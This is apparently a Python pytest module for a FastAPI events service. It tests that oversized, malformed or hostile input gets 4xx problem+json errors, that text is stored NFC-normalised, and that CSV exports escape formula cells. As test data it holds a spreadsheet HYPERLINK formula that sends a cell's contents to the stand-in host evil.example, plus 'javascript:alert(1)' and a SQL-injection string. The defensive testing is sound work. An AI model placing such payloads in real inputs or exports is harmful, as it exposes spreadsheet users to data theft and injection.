"""Hostile input answered with a 4xx problem+json, never a 5xx: oversized bodies, long
strings, huge pages, bad JSON, NUL bytes, deep nesting, out-of-range ids. And what
enters is stored precomposed (NFC)."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.core.settings import Settings
from service.main import create_app
from service.pages.sessions import SESSION_COOKIE, sign_in
from tests.service.factories import (
    assert_problem,
    b2b_session_payload,
    create,
    event_payload,
    organization_payload,
)

API = "/api/v1"
SMALL_STRING_CAP = 10_000  # the longest text field (LongText) is 5,000 characters


# ---------------------------------------------------------------- the schema's promises


def _schema() -> dict[str, Any]:
    return create_app(Settings(database_url="sqlite://", log_level="WARNING")).openapi()


def _unbounded(schema: dict[str, Any], node: dict[str, Any], where: str) -> Iterator[str]:
    """Strings without a maximum length and arrays without a maximum size, recursively."""
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[-1]]
    for key in ("anyOf", "oneOf", "allOf"):
        for sub in node.get(key, []):
            yield from _unbounded(schema, sub, where)
    kind = node.get("type")
    free_text = kind == "string" and not {"enum", "const"} & set(node)
    bounded_format = node.get("format") in {"date", "date-time", "email", "binary", "uuid"}
    if free_text and not bounded_format and node.get("maxLength", 10**9) > SMALL_STRING_CAP:
        yield f"{where}: string without a maxLength"
    if kind == "array":
        if "maxItems" not in node:
            yield f"{where}: array without maxItems"
        yield from _unbounded(schema, node.get("items", {}), f"{where}[]")
    for name, sub in node.get("properties", {}).items():
        yield from _unbounded(schema, sub, f"{where}.{name}")
    if isinstance(node.get("additionalProperties"), dict):
        yield from _unbounded(schema, node["additionalProperties"], f"{where}{{}}")


def _operations(schema: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for path, item in schema["paths"].items():
        for method, operation in item.items():
            yield f"{method.upper()} {path}", operation


def test_every_body_and_query_string_has_a_length_limit() -> None:
    schema = _schema()
    problems = []
    for name, operation in _operations(schema):
        for parameter in operation.get("parameters", []):
            # A path segment is bounded by the server's request-line limit.
            if parameter["in"] != "path":
                where = f"{name} {parameter['in']}.{parameter['name']}"
                problems += _unbounded(schema, parameter.get("schema", {}), where)
        for content in operation.get("requestBody", {}).get("content", {}).values():
            problems += _unbounded(schema, content.get("schema", {}), f"{name} body")
    assert problems == []


def test_every_page_is_capped_at_200_items() -> None:
    schema = _schema()
    pages = 0
    for name, operation in _operations(schema):
        limit = next((p for p in operation.get("parameters", []) if p["name"] == "limit"), None)
        if limit is None:
            continue
        ok = operation.get("responses", {}).get("200", {})
        body = ok.get("content", {}).get("application/json", {}).get("schema", {})
        is_page = body.get("$ref", "").rsplit("/", 1)[-1].startswith("Page_")
        maximum = limit["schema"].get("maximum")
        assert maximum is not None, f"{name}: ?limit= without a maximum"
        if is_page:
            pages += 1
            assert maximum <= 200, f"{name}: pages of up to {maximum} items"
    assert pages >= 8


def test_error_responses_are_documented_as_problem_json() -> None:
    schema = _schema()
    assert "Problem" in schema["components"]["schemas"]
    for name, operation in _operations(schema):
        errors = operation["responses"].get("4XX")
        assert errors, f"{name}: no 4XX response documented"
        assert "application/problem+json" in errors["content"], name


# ---------------------------------------------------------------- behaviour


def test_a_body_over_the_limit_is_refused_with_413(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    big = {**organization_payload(), "offers": "x" * 2_000_000}
    response = client.post(f"{API}/organizations", json=big, headers=admin_headers)
    assert_problem(response, 413)

    def stream() -> Iterator[bytes]:  # no Content-Length: a chunked upload
        yield b'{"kind": "company", "name": "'
        for _ in range(300):
            yield b"y" * 4096
        yield b'", "country": "VN"}'

    response = client.post(
        f"{API}/organizations",
        content=stream(),
        headers={**admin_headers, "Content-Type": "application/json"},
    )
    assert_problem(response, 413)


def test_an_oversized_upload_from_a_page_is_answered_with_a_page(client: TestClient) -> None:
    response = client.post(
        "/admin/events/1/import",
        files={"file": ("participants.csv", b"x" * 2_000_000, "text/csv")},
    )
    assert response.status_code == 413
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert "Tệp quá lớn / File too large" in response.text


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "N" * 201),
        ("offers", "o" * 5001),
        ("name", "Công ty\x00 Null"),
        ("needs", "bell\x07"),
        ("name", "two\nlines"),
        ("website", "javascript:alert(1)"),
        ("country", "Korea"),
        ("sectors", ["C26"] * 51),
        ("languages", ["xx-long-code"]),
    ],
)
def test_bad_fields_are_422_naming_the_field(
    client: TestClient, admin_headers: dict[str, str], field: str, value: object
) -> None:
    payload = {**organization_payload(), field: value}
    response = client.post(f"{API}/organizations", json=payload, headers=admin_headers)
    body = assert_problem(response, 422)
    assert any(e["field"].startswith(f"body.{field}") for e in body["errors"]), body


@pytest.mark.parametrize(
    "raw",
    [
        b'{"name": ',
        b"\xff\xfe not utf-8",
        b'{"name": "\\ud800"}',
        b"[" * 5000 + b"]" * 5000,
        b'{"kind": "company", "name": 1e999999, "country": "VN"}',
        b"",
    ],
)
def test_malformed_json_is_a_problem_not_a_crash(
    client: TestClient, admin_headers: dict[str, str], raw: bytes
) -> None:
    response = client.post(
        f"{API}/organizations",
        content=raw,
        headers={**admin_headers, "Content-Type": "application/json"},
    )
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["status"] == response.status_code


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"limit": 201}, "query.limit"),
        ({"limit": 0}, "query.limit"),
        ({"offset": -1}, "query.offset"),
        ({"limit": "ten"}, "query.limit"),
        ({"q": "q" * 201}, "query.q"),
    ],
)
def test_page_and_search_parameters_are_bounded(
    client: TestClient, query: dict[str, object], field: str
) -> None:
    assert_problem(client.get(f"{API}/events", params=query), 422, field)


def test_the_largest_page_is_served(client: TestClient) -> None:
    response = client.get(f"{API}/provinces", params={"limit": 200})
    assert response.status_code == 200
    assert response.json()["limit"] == 200


@pytest.mark.parametrize(
    "path",
    [
        f"{API}/events/99999999999999999999999999",
        f"{API}/organizations/-99999999999999999999999999",
        f"{API}/meeting-requests/18446744073709551616",
        f"{API}/events/3000000000",  # beyond PostgreSQL's INTEGER
    ],
)
def test_ids_beyond_64_bits_are_unknown_not_a_crash(
    client: TestClient, admin_headers: dict[str, str], path: str
) -> None:
    assert_problem(client.get(path, headers=admin_headers), 404)


def test_an_out_of_range_number_in_a_query_is_not_a_crash(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    event = create(client, f"{API}/events", event_payload(), admin_headers)
    for participant_id in ("3000000000", "99999999999999999999999"):
        response = client.get(
            f"{API}/events/{event['id']}/meetings",
            params={"participant_id": participant_id},
            headers=admin_headers,
        )
        assert response.status_code in (200, 404, 422), response.text


@pytest.mark.parametrize("q", ["\x00", "a\x00b", "%", "_", "' OR 1=1 --", "\\", "\ud7ff"])
def test_odd_search_text_finds_nothing_or_something_but_never_fails(
    client: TestClient, q: str
) -> None:
    for path in (f"{API}/events", f"{API}/organizations", f"{API}/provinces", f"{API}/sectors"):
        response = client.get(path, params={"q": q})
        assert response.status_code in (200, 422), (path, response.text)


def test_text_is_stored_precomposed_and_found_either_way(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    decomposed = unicodedata.normalize("NFD", "Công ty Hòa Bình Đồng Nai")
    assert decomposed != unicodedata.normalize("NFC", decomposed)
    org = create(
        client,
        f"{API}/organizations",
        organization_payload(name=decomposed, country="VN", languages=["vi"]),
        admin_headers,
    )
    assert org["name"] == "Công ty Hòa Bình Đồng Nai"
    assert unicodedata.is_normalized("NFC", org["name"])
    event = create(
        client, f"{API}/events", event_payload(name=unicodedata.normalize("NFD", "Gặp gỡ Hòa")),
        admin_headers,
    )  # fmt: skip
    assert event["name"] == "Gặp gỡ Hòa"
    for q in ("hoa binh", unicodedata.normalize("NFD", "Hòa Bình"), "HÒA BÌNH"):
        found = client.get(f"{API}/organizations", params={"q": q}).json()["items"]
        assert org["id"] in [o["id"] for o in found], q


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_exports_never_start_a_cell_with_a_formula(
    client: TestClient, admin_headers: dict[str, str], settings: Settings, db: Any
) -> None:
    event = create(client, f"{API}/events", event_payload(), admin_headers)
    session = create(
        client, f"{API}/events/{event['id']}/sessions", b2b_session_payload(), admin_headers
    )
    sides = []
    for name, country in ((HOSTILE_NAME, "KR"), ("+84 Công ty Điện tử", "VN")):
        org = create(
            client,
            f"{API}/organizations",
            organization_payload(name=name, country=country, languages=["vi", "ko"]),
            admin_headers,
        )
        sides.append(
            create(
                client,
                f"{API}/events/{event['id']}/participants",
                {"organization_id": org["id"], "delegates": [{"name": "@SUM(A1:A2)"}]},
                admin_headers,
            )["id"]
        )
    meeting = {"participants": sides, "session_id": session["id"], "slot": 1, "table": 1}
    create(client, f"{API}/events/{event['id']}/meetings", meeting, admin_headers)
    cookie = sign_in(session=db, settings=settings, token=admin_headers["Authorization"][7:])
    assert cookie is not None
    response = client.get(
        f"/admin/events/{event['id']}/export/meetings.csv",
        headers={"Cookie": f"{SESSION_COOKIE}={cookie}"},
    )
    assert response.status_code == 200, response.text[:300]
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
